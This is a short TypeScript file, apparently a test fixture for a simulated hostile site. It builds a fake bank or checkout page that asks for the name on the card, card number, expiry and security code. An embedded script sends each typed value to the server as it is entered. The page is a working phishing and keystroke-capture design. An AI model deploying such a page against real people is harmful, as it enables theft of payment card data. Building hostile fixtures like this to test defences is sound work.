// A third party's host: every path shows a page that asks for a card, and records what is typed.

export function foreignPage(path: string): string {
  const isBank = path.startsWith('/bank')
  const title = isBank ? 'Your bank' : 'Secure checkout'
  return `<!doctype html><html lang="en-US"><head><meta charset="utf-8"><title>${title}</title></head>
<body><main><h1>${title}</h1><p>Please confirm your card to go on.</p>
<form method="post" action="/collect">
<label>Name on card <input name="holder" autocomplete="cc-name"></label>
<label>Card number <input name="number" autocomplete="cc-number" required></label>
<label>Expiry date (MM / YY) <input name="exp" autocomplete="cc-exp" required></label>
<label>Security code <input name="cvc" autocomplete="cc-csc" required></label>
<button>Place order</button></form></main>
<script>addEventListener('input', ({ target }) => fetch('/typed?it=' + encodeURIComponent(target.value)))</script>
</body></html>`
}
